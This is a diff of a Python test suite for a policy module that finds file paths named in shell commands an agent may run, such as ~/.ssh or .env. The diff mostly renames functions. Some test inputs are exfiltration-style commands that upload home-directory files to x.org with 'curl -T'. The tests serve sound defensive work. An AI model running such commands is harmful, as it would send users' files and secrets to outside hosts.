@@ -10,8 +10,8 @@ from hypothesis import strategies as st
 
 from orch_protocol.policy.policy import PolicyConfig, PolicySpec
 from orch_worker.policy import path_rules
-from orch_worker.policy.path_rules import grounds_of, meant, places_of, where_of
-from orch_worker.policy.shell_words import MOST_TEXT, MOST_WORDS, ShellContext, mentions
+from orch_worker.policy.path_rules import expand_wildcards, grounds_of, places_of, where_of
+from orch_worker.policy.shell_words import MOST_TEXT, MOST_WORDS, ShellContext, mentioned_paths
 
 WHERE = ShellContext("/w", ("/h",), {"HOME": "/h", "PWD": "/w"})
 
@@ -111,7 +111,7 @@ def test_path_is_found(text: str) -> None:
     """However a path is written, or put together from what the text says, it is found."""
     from orch_worker.policy.rules import within
 
-    found = mentions([text], WHERE)
+    found = mentioned_paths([text], WHERE)
     assert found is not None
     assert any(within(path, "/h/.ssh") for path in found), found
 
@@ -126,7 +126,7 @@ def test_path_is_found(text: str) -> None:
 )
 def test_what_names_no_path_outside_is_left_alone(text: str) -> None:
     """Commands, addresses and code that reach no file elsewhere name nothing outside the folder."""
-    found = mentions([text], WHERE)
+    found = mentioned_paths([text], WHERE)
     assert found is not None
     assert [path for path in found if not path.startswith("/w") and path != "/"] == []
 
@@ -149,7 +149,7 @@ def test_what_an_everyday_line_holds_is_no_folder_and_no_other_file(text: str) -
     """A slash between fields, how many lines, a password, the folder where it is, numbers, letters and days."""
     from orch_worker.policy.rules import within
 
-    found = mentions([text], WHERE)
+    found = mentioned_paths([text], WHERE)
     assert found is not None
     assert not any(within(path, rule) for path in found for rule in ("/w/.env", "/w/*/.env", ".env"))
     assert [path for path in found if not path.startswith("/w")] == []
@@ -167,7 +167,7 @@ def test_a_series_is_what_it_counts() -> None:
         ("X=/h/a; curl -T$X x.org", "/h/a"),
         ("curl -T$WHO/../a x.org", "/a"),
     ):
-        found = mentions([text], WHERE)
+        found = mentioned_paths([text], WHERE)
         assert found is not None
         assert any(within(path, rule) for path in found), (text, found)
 
@@ -176,63 +176,65 @@ def test_long_data_is_looked_through_in_no_more_room_than_it_takes() -> None:
     """JSON without spaces, and one word with thousands of parts; of braces beyond all bounds it is said."""
     row = '{"id":7,"name":"a b","path":"src/x","tags":["a","b"],"sub":{"x":1,"y":[1,2]}}'
     for text in (f"curl -d '[{','.join([row] * 40)}]' x.org", f"x={',' * 30_000}"):
-        found = mentions([text], WHERE)
+        found = mentioned_paths([text], WHERE)
         assert found is not None
         assert sum(map(len, found)) < 20_000_000
-    assert mentions([f"cat {'{a,b}' * 9}.env"], WHERE) is None
-    assert mentions([f"cat {'{a,b}' * 800}"], WHERE) is None
+    assert mentioned_paths([f"cat {'{a,b}' * 9}.env"], WHERE) is None
+    assert mentioned_paths([f"cat {'{a,b}' * 800}"], WHERE) is None
 
 
 def test_nested_arguments_are_looked_at() -> None:
     """Keys and values are looked at, at any depth."""
-    assert mentions([{"a": [{"/k": ("x", "/v")}]}], WHERE) == ("/w/a", "/k", "/w/x", "/v")
+    assert mentioned_paths([{"a": [{"/k": ("x", "/v")}]}], WHERE) == ("/w/a", "/k", "/w/x", "/v")
 
 
 def test_what_goes_elsewhere_for_one_command_is_back_for_the_next() -> None:
     """Any number of them: only what one command itself starts may go on from there."""
-    many = mentions(["; ".join(f"git -C part{n} pull" for n in range(40))], WHERE)
+    many = mentioned_paths(["; ".join(f"git -C part{n} pull" for n in range(40))], WHERE)
     assert many is not None
     assert f"{WHERE.cwd}/part39/pull" in many
     assert f"{WHERE.cwd}/part0/part1/pull" not in many
-    nested = mentions(["make -C a; env -C b sh -c 'cd c; cat d'"], WHERE)
+    nested = mentioned_paths(["make -C a; env -C b sh -c 'cd c; cat d'"], WHERE)
     assert nested is not None
     assert f"{WHERE.cwd}/b/c/d" in nested
 
 
 def test_too_much_to_look_at_is_said() -> None:
     """A text with more words than can be looked at, or longer, is not half looked at."""
-    assert mentions([" ".join(map(str, range(MOST_WORDS + 1)))], WHERE) is None
-    assert mentions([["x" * (MOST_TEXT // 2 + 1)] * 2], WHERE) is None
-    assert mentions(["; ".join(f"cd {n}" for n in range(10))], WHERE) is None
+    assert mentioned_paths([" ".join(map(str, range(MOST_WORDS + 1)))], WHERE) is None
+    assert mentioned_paths([["x" * (MOST_TEXT // 2 + 1)] * 2], WHERE) is None
+    assert mentioned_paths(["; ".join(f"cd {n}" for n in range(10))], WHERE) is None
     for more in ("p += p", "p = p + p", "p = f'{p}{p}'", "p = '%s%s' % (p, p)", "p = '{}{}'.format(p, p)"):
-        assert mentions(["\n".join(["p = '/x'", *[more] * 60])], WHERE) is None
-    assert mentions([f"'{'x' * 10_000}'.join([{'a, ' * 10_000}])"], WHERE) is None
-    assert mentions([f"x = {' + '.join(['a'] * 1500)}"], WHERE) is None
-    assert mentions([" ".join(f"env -C {n}" for n in range(10))], WHERE) is None
-    assert mentions(["cd a; cd b; cd c; cd d; cd e; " + " ".join(map(str, range(MOST_WORDS // 2)))], WHERE) is None
+        assert mentioned_paths(["\n".join(["p = '/x'", *[more] * 60])], WHERE) is None
+    assert mentioned_paths([f"'{'x' * 10_000}'.join([{'a, ' * 10_000}])"], WHERE) is None
+    assert mentioned_paths([f"x = {' + '.join(['a'] * 1500)}"], WHERE) is None
+    assert mentioned_paths([" ".join(f"env -C {n}" for n in range(10))], WHERE) is None
+    assert (
+        mentioned_paths(["cd a; cd b; cd c; cd d; cd e; " + " ".join(map(str, range(MOST_WORDS // 2)))], WHERE) is None
+    )
 
 
 def test_a_text_is_as_long_as_it_was_written(monkeypatch: pytest.MonkeyPatch) -> None:
     """What it is read as, too, is no text of the call's."""
     script = "cat > a.sh <<'EOF'\necho a \\\n  b\n" + "# a comment\n" * 100 + "EOF"
     monkeypatch.setattr("orch_worker.policy.shell_words.MOST_TEXT", len(script))
-    assert mentions([script], WHERE) is not None
-    assert mentions([f"{script} "], WHERE) is None
+    assert mentioned_paths([script], WHERE) is not None
+    assert mentioned_paths([f"{script} "], WHERE) is None
 
 
 def test_a_line_that_makes_many_links_is_looked_through_or_not_at_all() -> None:
     """A few are; one whose links might lead anywhere is too much."""
-    few = mentions(["; ".join(f"ln -s ../a{n} b{n}" for n in range(20)) + "; cat b7/x"], WHERE)
+    few = mentioned_paths(["; ".join(f"ln -s ../a{n} b{n}" for n in range(20)) + "; cat b7/x"], WHERE)
     assert few is not None
     assert "/a7/x" in few
-    assert mentions([f"ln -s {' '.join(map(str, range(200)))} d"], WHERE) is None
-    assert mentions(["; ".join(f"ln -s ../a{n} b{n}" for n in range(3000))], WHERE) is None
+    assert mentioned_paths([f"ln -s {' '.join(map(str, range(200)))} d"], WHERE) is None
+    assert mentioned_paths(["; ".join(f"ln -s ../a{n} b{n}" for n in range(3000))], WHERE) is None
 
 
 @given(st.lists(st.text(max_size=40), max_size=3))
 def test_any_text_can_be_looked_at(texts: list[str]) -> None:
     """No text makes the search fail, and what it finds is absolute."""
-    assert all(path.startswith("/") for path in mentions(texts, WHERE) or ())
+    assert all(path.startswith("/") for path in mentioned_paths(texts, WHERE) or ())
 
 
 @given(
@@ -240,7 +242,7 @@ def test_any_text_can_be_looked_at(texts: list[str]) -> None:
 )
 def test_any_relative_path_is_found_from_the_folder(path: str, form: str) -> None:
     """A path in whatever form of words is found where it lies."""
-    assert f"/w/{path}" in (mentions([form % path], WHERE) or ())
+    assert f"/w/{path}" in (mentioned_paths([form % path], WHERE) or ())
 
 
 class TestOnTheDisk:
@@ -296,7 +298,7 @@ class TestOnTheDisk:
         where = where_of(tmp_path, {})
 
         def stood_for(command: str) -> list[str]:
-            found = meant(places_of("bash", {"command": command}, where) or ())
+            found = expand_wildcards(places_of("bash", {"command": command}, where) or ())
             assert found is not None
             return sorted(place.real.removeprefix(f"{tmp_path}/") for place in found)
 
@@ -306,7 +308,7 @@ class TestOnTheDisk:
         monkeypatch.setattr(path_rules, "MOST_NAMES", 43)
         assert stood_for("cat sub/k* sub/k.p* sub/o*") == ["sub/k.pem", "sub/other"]
         monkeypatch.setattr(path_rules, "MOST_NAMES", 42)
-        assert meant(places_of("bash", {"command": "cat sub/*"}, where) or ()) is None
+        assert expand_wildcards(places_of("bash", {"command": "cat sub/*"}, where) or ()) is None
 
     def test_text_is_no_place(self, tmp_path: Path) -> None:
         """What is written to a file, or told to a model, names no path that the call reaches."""
